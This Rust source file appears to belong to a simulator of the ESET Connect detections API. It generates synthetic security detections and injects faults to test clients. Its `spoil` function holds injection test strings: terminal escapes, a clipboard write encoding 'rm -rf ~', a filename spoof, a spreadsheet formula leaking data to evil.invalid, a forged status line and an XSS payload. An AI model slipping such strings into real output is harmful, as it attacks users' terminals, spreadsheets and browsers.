//! Detections: what the products on the devices found (vendors/eset-connect.md §10.4).

use std::sync::atomic::{AtomicUsize, Ordering};

use axum::http::StatusCode;
use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

use super::devices::find;
use super::{Answered, Ask, State};
use crate::simulator::Fault;
use crate::simulator::world::{Dice, Sample, World};

/// What goes on arriving after the start: the first after this many minutes, then one every so many, for two days.
const ARRIVALS: (i64, i64, i64) = (4, 5, 2 * 24 * 60);

struct Detection {
    seed: u64,
    uuid: String,
    time: Timestamp,
    machine: usize,
    late: bool,
    /// What of the campaign it shows, if it is of that.
    part: Option<Part>,
}

/// What the products see of the campaign.
#[derive(Clone, Copy)]
enum Part {
    File,
    Attack,
}

/// Every detection there is or will be, by time.
pub struct Detections {
    all: Vec<Detection>,
    walks: AtomicUsize,
}

impl Detections {
    /// Makes up so many from the week before, most of them from the last day, and what will arrive later.
    pub fn new(world: &World, records: usize) -> Self {
        let mut dice = Dice::for_part(world.seed, "eset-detections");
        let recent = world.start - SignedDuration::from_hours(1);
        let mut all: Vec<Detection> = Vec::new();
        // Two of them are of the campaign.
        for n in 0..records.saturating_sub(2) {
            let hours = if dice.chance(75) { 24 } else { 168 };
            let back = SignedDuration::from_millis(i64::try_from(dice.below(hours * 3_600_000)).unwrap_or(0) + 1_000);
            // A scan writes several with one time stamp, and most times are whole seconds.
            let time = match all.last() {
                Some(last) if n % 16 == 0 => last.time,
                _ if n % 7 == 3 => world.start - back,
                _ => whole(world.start - back),
            };
            let late = n % 5 == 0 && time > recent;
            all.push(one(&mut dice, world, time, late));
        }
        if !all.iter().any(|detection| detection.late) {
            let time = whole(world.start - SignedDuration::from_mins(20));
            all.push(one(&mut dice, world, time, true));
        }
        for (part, minutes) in [(Part::File, 100), (Part::Attack, 95)] {
            let seen = one(&mut dice, world, whole(world.start - SignedDuration::from_mins(minutes)), false);
            all.push(Detection { machine: world.campaign().machine, part: Some(part), ..seen });
        }
        let (first, every, last) = ARRIVALS;
        for number in 0..(last - first) / every {
            let time = whole(world.start + SignedDuration::from_mins(first + number * every));
            all.push(one(&mut dice, world, time, false));
        }
        all.sort_by(|a, b| (a.time, &a.uuid).cmp(&(b.time, &b.uuid)));
        Self { all, walks: AtomicUsize::new(0) }
    }
}

fn whole(time: Timestamp) -> Timestamp {
    Timestamp::from_second(time.as_second()).unwrap_or(time)
}

fn one(dice: &mut Dice, world: &World, time: Timestamp, late: bool) -> Detection {
    // Some machines are in more trouble than others.
    let machine = if dice.chance(40) { dice.below(6) } else { dice.below(world.machines.len()) };
    Detection { seed: dice.next(), uuid: dice.uuid(), time, machine, late, part: None }
}

/// Answers a request to the incident service.
pub fn route(state: &State, ask: &Ask<'_>) -> Answered {
    let hostile = state.shared.faults.has(Fault::HostileText);
    let show = |detection: &Detection| render(&state.shared.world, detection, hostile);
    match (ask.method, ask.path.as_slice(), ask.verb) {
        ("GET", ["v1", "detections"], "") => list(state, ask, show),
        ("GET", ["v1" | "v2", "detections", uuid], "") => {
            ask.query.only(&[])?;
            let found = state.detections.all.iter().find(|detection| detection.uuid == *uuid && detection.time <= ask.now);
            found.map(|detection| json!({"detection": show(detection)})).ok_or(StatusCode::NOT_FOUND)
        }
        // That list is of Cloud Office Security, which this tenant has not.
        ("GET", ["v2", "detections"], "") => Err(StatusCode::NOT_IMPLEMENTED),
        _ => Err(StatusCode::NOT_FOUND),
    }
}

fn list(state: &State, ask: &Ask<'_>, show: impl Fn(&Detection) -> Value) -> Answered {
    let query = ask.query;
    query.only(&["deviceUuid", "startTime", "endTime", "pageSize", "pageToken"])?;
    let time = |name: &str| match query.one(name)? {
        None => Ok(None),
        Some(text) => text.parse::<Timestamp>().map(Some).map_err(|_| StatusCode::BAD_REQUEST),
    };
    let (start, end) = (time("startTime")?, time("endTime")?);
    if start.zip(end).is_some_and(|(start, end)| start > end) {
        return Err(StatusCode::BAD_REQUEST);
    }
    let device = match query.one("deviceUuid")? {
        None => None,
        Some(uuid) => Some(find(&state.shared.world, uuid).ok_or(StatusCode::NOT_FOUND)?),
    };
    // What is late is seen by every walk but the first; a look at a handful is no walk.
    let first = query.one("pageToken")?.is_none() && query.one("pageSize")?.is_none_or(|size| size.len() > 1);
    let walks = state.detections.walks.fetch_add(usize::from(first), Ordering::Relaxed) + usize::from(first);
    let late = walks > 1 || !state.shared.faults.has(Fault::LateRecords);
    let found: Vec<&Detection> = state
        .detections
        .all
        .iter()
        .filter(|one| {
            one.time <= ask.now
                && start.is_none_or(|start| one.time >= start)
                && end.is_none_or(|end| one.time < end)
                && device.is_none_or(|device| one.machine == device)
                && (late || !one.late)
        })
        .collect();
    let total = found.len();
    let mut page = query.page("detections", &found, state.shared.faults.has(Fault::DuplicateRecords), |one| show(one))?;
    page.insert("totalSize".into(), total.into());
    Ok(page.into())
}

/// A text that is made to do harm where it is not made harmless.
pub fn spoil(seed: usize, text: &str) -> String {
    const SPOILS: [&str; 6] = [
        "\u{1b}[2J\u{1b}[31mPWNED\u{1b}[0m",
        "\u{1b}]52;c;cm0gLXJmIH4=\u{7}clip",
        "\u{202e}gpj.exe\u{202c} invoice",
        "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"open\")",
        "zero\u{200b}width\u{2028}next line\r\nSTATUS: closed",
        "<img src=x onerror=alert(1)> \u{9b}31m",
    ];
    format!("{text} {}", SPOILS[seed % SPOILS.len()])
}

fn render(world: &World, detection: &Detection, hostile: bool) -> Value {
    let mut dice = Dice::new(detection.seed);
    let machine = &world.machines[detection.machine];
    let login = world.people.get(machine.owner).map_or("system", |person| &person.login);
    let user = format!("CORP\\{login}");
    let severity = |dice: &mut Dice, weights: &[(&str, usize)]| {
        let mut left = dice.below(weights.iter().map(|(_, weight)| weight).sum());
        let found = weights.iter().find(|(_, weight)| {
            let here = left < *weight;
            left = left.saturating_sub(*weight);
            here
        });
        format!("SEVERITY_LEVEL_{}", found.map_or("UNSPECIFIED", |(name, _)| name))
    };
    let mut json = json!({
        "uuid": detection.uuid,
        "occurTime": if detection.time.subsec_nanosecond() == 0 { detection.time.strftime("%Y-%m-%dT%H:%M:%SZ").to_string() } else { detection.time.to_string() },
    });
    let mut context = json!({"deviceUuid": machine.id, "userName": user});
    let throw = dice.below(100);
    let category = match detection.part.map_or(throw, |part| if matches!(part, Part::File) { 0 } else { 60 }) {
        0..40 => {
            let sample = if detection.part.is_some() { world.campaign().sample } else { dice.pick(&world.samples) };
            antivirus(&mut dice, sample, login, &mut json, &mut context);
            json["severityLevel"] = severity(&mut dice, &[("LOW", 2), ("MEDIUM", 5), ("HIGH", 3)]).into();
            "ANTIVIRUS"
        }
        40..60 => {
            let remote = dice.pick(&world.addresses);
            network(&mut dice, &machine.ip, remote, &mut json, "Firewall rule");
            json["severityLevel"] = severity(&mut dice, &[("INFORMATIONAL", 4), ("LOW", 4), ("MEDIUM", 1)]).into();
            "FIREWALL_RULE"
        }
        60..70 => {
            // The first dozen addresses are bad.
            let remote = if detection.part.is_some() { world.campaign().address } else { &world.addresses[dice.below(12)] };
            network(&mut dice, &machine.ip, remote, &mut json, "Network attack");
            json["displayName"] = (*dice.pick(&["Win32/Botnet.generic", "SMB/Exploit.CVE-2017-0144", "TCP Port Scanning attack"])).into();
            json["severityLevel"] = severity(&mut dice, &[("MEDIUM", 3), ("HIGH", 4)]).into();
            "NETWORK_INTRUSION"
        }
        70..80 => {
            let domain = dice.pick(&world.domains);
            json["displayName"] = "Blocked by the phishing list".into();
            json["typeName"] = "Phishing".into();
            json["objectTypeName"] = "URL".into();
            json["objectUrl"] = format!("https://{domain}/{}", dice.hex(6)).into();
            json["responses"] = response("Blocked", "The page was blocked", "Web access protection", false);
            context["process"] = json!({"path": "C:\\Program Files\\Mozilla Firefox\\firefox.exe"});
            json["severityLevel"] = severity(&mut dice, &[("LOW", 4), ("MEDIUM", 4)]).into();
            "WEB_ACCESS"
        }
        80..90 => {
            let rule = dice.pick(&["Deny child processes from Office", "Self-defence", "Deny scripts in temporary folders"]);
            json["displayName"] = (*rule).into();
            json["typeName"] = "nil".into();
            json["objectTypeName"] = "Process".into();
            json["objectName"] = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into();
            json["responses"] = json!([{}]);
            context["process"] = json!({"path": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"});
            json["severityLevel"] = severity(&mut dice, &[("INFORMATIONAL", 2), ("LOW", 3), ("MEDIUM", 1), ("DIAGNOSTIC", 1)]).into();
            "HIPS_RULE"
        }
        90..97 => {
            let sample = dice.pick(&world.samples);
            json["displayName"] = (*dice.pick(&["LSASS memory read", "Ransomware behaviour", "Credential dumping tool started"])).into();
            json["typeName"] = "Rule activated".into();
            json["objectTypeName"] = "Executable file".into();
            json["objectName"] = sample.name.clone().into();
            json["objectHashSha1"] = sample.sha1.to_uppercase().into();
            context["process"] = json!({"path": format!("C:\\Users\\{login}\\AppData\\Local\\Temp\\{}", sample.name)});
            json["severityLevel"] = severity(&mut dice, &[("MEDIUM", 1), ("HIGH", 3)]).into();
            "EDR_RULE"
        }
        // A bare record: everything that may be absent is.
        _ => {
            context = json!({"deviceUuid": machine.id});
            json["severityLevel"] = "SEVERITY_LEVEL_UNSPECIFIED".into();
            "SUSPICIOUS_ACTIVITY"
        }
    };
    json["category"] = format!("DETECTION_CATEGORY_{category}").into();
    json["context"] = context;
    if hostile && detection.seed.is_multiple_of(6) {
        let at = usize::try_from(detection.seed / 6 % 6).unwrap_or(0);
        json["displayName"] = spoil(at, json["displayName"].as_str().unwrap_or_default()).into();
        json["objectName"] = spoil(at + 1, json["objectName"].as_str().unwrap_or_default()).into();
    }
    json
}

fn response(name: &str, text: &str, protection: &str, restart: bool) -> Value {
    json!([{"displayName": name, "description": text, "protectionName": protection, "deviceRestartRequired": restart}])
}

fn antivirus(dice: &mut Dice, sample: &Sample, login: &str, json: &mut Value, context: &mut Value) {
    let folder = format!("C:\\Users\\{login}\\Downloads");
    json["displayName"] = sample.detection.into();
    json["typeName"] = (*dice.pick(&["Trojan", "Potentially unwanted application", "Spyware", "Worm"])).into();
    json["objectTypeName"] = "File".into();
    json["objectName"] = format!("{folder}\\{}", sample.name).into();
    json["objectUrl"] = format!("file:///{}/{}", folder.replace('\\', "/"), sample.name.replace(' ', "%20")).into();
    json["objectHashSha1"] = sample.sha1.to_uppercase().into();
    let protection = "Real-time file system protection";
    json["responses"] = match dice.below(4) {
        0 => response("Cleaned", "Cleaned by deleting", protection, false),
        1 => response("Quarantined", "Cleaned by deleting; moved to quarantine", protection, true),
        2 => json!([{"displayName": "Blocked", "description": "Access was blocked", "protectionName": protection},
            {"displayName": "Cleaned", "description": "Cleaned by deleting", "protectionName": protection}]),
        _ => response("Not cleaned", "The file could not be cleaned", "On-demand scan", false),
    };
    context["circumstances"] = "Event occurred on a file that an application created".into();
    context["process"] = json!({"path": (*dice.pick(&["C:\\Windows\\explorer.exe", "C:\\Program Files\\7-Zip\\7zFM.exe"]))});
}

fn network(dice: &mut Dice, ip: &str, remote: &str, json: &mut Value, name: &str) {
    let inbound = dice.chance(50);
    let protocol = *dice.pick(&["tcp", "tcp", "udp", "0"]);
    json["displayName"] = "Blocked by a firewall rule".into();
    json["typeName"] = name.into();
    json["networkCommunication"] = json!({
        "direction": format!("NETWORK_COMMUNICATION_DIRECTION_{}", if inbound { "INBOUND" } else { "OUTBOUND" }),
        "protocolName": protocol, "localIpAddress": ip, "localPort": if inbound { 445 } else { 49_152 + dice.below(9_000) },
        "remoteIpAddress": remote, "remotePort": if inbound { 40_000 + dice.below(9_000) } else { 443 },
    });
    json["responses"] = response("Blocked", "The communication was blocked", "Firewall", false);
}
